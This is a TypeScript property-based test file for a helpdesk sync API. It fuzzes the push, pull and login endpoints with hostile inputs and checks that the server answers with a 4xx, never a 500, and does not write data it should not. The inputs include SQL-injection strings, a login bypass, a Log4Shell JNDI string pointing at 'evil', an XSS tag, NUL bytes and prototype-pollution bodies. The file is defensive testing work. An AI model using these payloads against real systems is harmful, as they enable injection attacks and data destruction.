/**
 * Hostile and malformed input never reaches a 500 and never writes anything
 * it should not: property tests over push and pull bodies (fast-check), plus
 * the named cases — malformed JSON, oversized bodies, wrong content types,
 * SQL-ish text, NUL bytes, lone surrogates, huge unicode.
 */
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { beforeAll, expect, it } from 'vitest';
import { ErrorBodySchema, MUTATION_NAMES, PullResponseSchema, PushResponseSchema, SCHEMA_VERSION } from '../../src-shared/protocol/sync.ts';
import { BODY_LIMIT_BYTES } from '../../src-server/app.ts';
import { IDS } from './support/fixtures.ts';
import { describeServer, DEFAULT_CLIENT, type ServerHarness } from './support/harness.ts';
import { ticketArgs } from './support/mutations.ts';

const HOSTILE = [
  "'; DROP TABLE tickets; --",
  "Robert'); DELETE FROM users WHERE ('1'='1",
  '\u0000',
  'antes\u0000después',
  '\ud800',
  'fin\udc00',
  '🙂'.repeat(5_000),
  'ñandú '.repeat(3_000),
  '${jndi:ldap://evil/x}',
  '<script>alert(1)</script>',
  '%00%27',
  '\\x00\\u0000',
  '\u202e\u0301\u200b',
  'a'.repeat(300_000),
];

const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.string({ unit: 'grapheme', maxLength: 64 }),
  fc.stringMatching(/^[0-9a-f-]{0,40}$/),
);

/** Any JSON value, with hostile strings mixed in. */
const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileString, tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** Valid ticket.create args with one field replaced by something hostile. */
const corruptedTicketArgs = fc.tuple(fc.constantFrom('subject', 'description', 'customerId', 'id', 'urgency', 'requesterEmail', 'errorMessage', 'extra'), hostileJson).map(([field, value]) => ({ ...ticketArgs(), [field]: value }));

const mutationArb = fc.record({
  name: fc.oneof(fc.constantFrom(...MUTATION_NAMES), hostileString),
  args: fc.oneof(hostileJson, corruptedTicketArgs),
});

async function counts(h: ServerHarness): Promise<{ changes: number; tickets: number; users: number }> {
  const [row] = await h.db.query<{ changes: number; tickets: number; users: number }>(
    'SELECT (SELECT count(*) FROM change_log) AS changes, (SELECT count(*) FROM tickets) AS tickets, (SELECT count(*) FROM users) AS users',
  );
  if (row === undefined) throw new Error('no counts');
  return row;
}

function expectErrorShape(status: number, body: unknown): void {
  expect(status).toBeGreaterThanOrEqual(400);
  expect(status).toBeLessThan(500);
  expect(ErrorBodySchema.safeParse(body).success, JSON.stringify(body).slice(0, 200)).toBe(true);
}

describeServer('hostile input', (h) => {
  beforeAll(() => h.reset());

  it('arbitrary push bodies: 2xx or a 4xx with the error shape, never a 500, nothing written on a 4xx', async () => {
    await fc.assert(
      fc.asyncProperty(hostileJson, async (body) => {
        const before = await counts(h);
        const res = await h.request('POST', '/api/v1/sync/push', { as: 'technician', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } });
        if (res.status === 200) {
          expect(PushResponseSchema.safeParse(res.body).success).toBe(true);
        } else {
          expectErrorShape(res.status, res.body);
          expect(await counts(h)).toEqual(before);
        }
      }),
      { numRuns: 150 },
    );
  });

  it('valid envelopes with hostile mutations: every one is applied or rejected, the queue moves on, never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(mutationArb, { minLength: 1, maxLength: 5 }), async (mutations) => {
        // A fresh client per run, so a shrunk replay starts from seq 1 too.
        const clientId = `fuzz-${randomUUID()}`;
        const batch = mutations.map((m, index) => ({ seq: index + 1, id: `fuzz-${index}`, name: m.name.slice(0, 100) || 'x', args: m.args }));
        const envelope = { clientId, schemaVersion: SCHEMA_VERSION, mutations: batch };
        const res = await h.request('POST', '/api/v1/sync/push', { as: 'dispatcher', body: envelope });
        // Only an oversized batch may be refused as a whole.
        if (res.status === 413) return;
        // And a prototype-poisoning body (a "__proto__" or "constructor.prototype" key anywhere): the JSON
        // parser refuses it whole, with the error shape, and nothing is applied. (The desk never sends one:
        // its arguments are built from schemas, never from keys a person typed.)
        const text = JSON.stringify(envelope);
        if (/"__proto__"\s*:/.test(text) || /"constructor"\s*:\s*\{[^{}]*"prototype"\s*:/.test(text)) {
          expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(400);
          expectErrorShape(res.status, res.body);
          return;
        }
        expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(200);
        const body = PushResponseSchema.parse(res.body);
        expect(body.results.map((r) => r.seq)).toEqual(batch.map((m) => m.seq));
        expect(body.lastSeq).toBe(batch.length);
        for (const result of body.results) if (result.status === 'rejected') expect(result.code).toEqual(expect.any(String));
      }),
      { numRuns: 120 },
    );
    // The tables survived every SQL-ish string.
    expect((await counts(h)).users).toBe(5);
  });

  it('arbitrary pull queries: 200 or 422, never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(fc.dictionary(fc.constantFrom('cursor', 'clientId', 'limit', 'other'), hostileString, { maxKeys: 4 }), async (query) => {
        const res = await h.request('GET', '/api/v1/sync/pull', { as: 'technician', query });
        if (res.status === 200) expect(PullResponseSchema.safeParse(res.body).success).toBe(true);
        else {
          expect(res.status).toBe(422);
          expectErrorShape(res.status, res.body);
        }
      }),
      { numRuns: 150 },
    );
  });

  it('malformed JSON is a 400; empty, wrong content type and prototype pollution are 4xx', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 200 }).filter((text) => {
        try {
          JSON.parse(text);
          return false;
        } catch {
          return true;
        }
      }), async (text) => {
        const res = await h.app.inject({ method: 'POST', url: '/api/v1/sync/push', headers: { 'content-type': 'application/json', authorization: `Bearer ${await h.token('technician')}` }, payload: text });
        expect(res.statusCode).toBe(400);
        expectErrorShape(res.statusCode, JSON.parse(res.body));
      }),
      { numRuns: 60 },
    );
    const token = await h.token('technician');
    const cases: Array<{ headers: Record<string, string>; payload: string }> = [
      { headers: { 'content-type': 'application/json' }, payload: '' },
      { headers: { 'content-type': 'text/plain' }, payload: 'hola' },
      { headers: { 'content-type': 'application/json' }, payload: '{"__proto__": {"admin": true}, "clientId": "x"}' },
      { headers: { 'content-type': 'application/json' }, payload: '{"constructor": {"prototype": {"x": 1}}}' },
    ];
    for (const c of cases) {
      const res = await h.app.inject({ method: 'POST', url: '/api/v1/sync/push', headers: { ...c.headers, authorization: `Bearer ${token}` }, payload: c.payload });
      expectErrorShape(res.statusCode, JSON.parse(res.body));
    }
  });

  it('a body over the limit is a 413 with the error shape, before anything is parsed or written', async () => {
    const before = await counts(h);
    const huge = JSON.stringify({ clientId: DEFAULT_CLIENT, schemaVersion: SCHEMA_VERSION, mutations: [{ seq: 1, id: 'x', name: 'ticket.create', args: { ...ticketArgs(), description: 'x'.repeat(BODY_LIMIT_BYTES) } }] });
    const res = await h.app.inject({ method: 'POST', url: '/api/v1/sync/push', headers: { 'content-type': 'application/json', authorization: `Bearer ${await h.token('technician')}` }, payload: huge });
    expect(res.statusCode).toBe(413);
    expect(JSON.parse(res.body)).toMatchObject({ error: { code: 'PAYLOAD_TOO_LARGE' } });
    expect(await counts(h)).toEqual(before);
  });

  it('NUL bytes and lone surrogates are refused as data, never stored; SQL-ish and exotic text round-trips exactly', async () => {
    const res = await h.push('technician', [
      { seq: 1, name: 'ticket.create', args: ticketArgs({ subject: 'antes\u0000después' }) },
      { seq: 2, name: 'ticket.create', args: ticketArgs({ description: 'roto \ud800' }) },
    ], 'fuzz-named-cases-1');
    expect(res.body.results.map((r) => [r.status, r.code])).toEqual([['rejected', 'VALIDATION'], ['rejected', 'VALIDATION']]);
    const exotic = ticketArgs({ subject: "'; DROP TABLE tickets; -- 🙂 ñ \u202e", description: '🙂'.repeat(10_000), errorMessage: 'Robert\'); DELETE FROM users;--' });
    const ok = await h.push('technician', [{ seq: 3, name: 'ticket.create', args: exotic }], 'fuzz-named-cases-1');
    expect(ok.body.results[0]).toEqual({ seq: 3, status: 'applied' });
    const pulled = await h.db.query<{ subject: string; description: string; error_message: string }>('SELECT subject, description, error_message FROM tickets WHERE id = $1', [exotic.id]);
    expect(pulled).toEqual([{ subject: exotic.subject, description: exotic.description, error_message: exotic.errorMessage }]);
    const login = await h.request('POST', '/api/v1/auth/login', { body: { email: "' OR '1'='1", password: "' OR '1'='1" } });
    expect(login.status).toBe(401);
    const nul = await h.request('POST', '/api/v1/auth/login', { body: { email: 'a\u0000b', password: 'x' } });
    expect(nul.status).toBe(422);
    const admin = await h.request('PUT', '/api/v1/calendar/days/2026-05-05', { as: 'admin', body: { kind: 'closure', name: 'mal\u0000nombre' } });
    expect(admin.status).toBe(422);
    expect(IDS.customer).toBeDefined();
  });
});
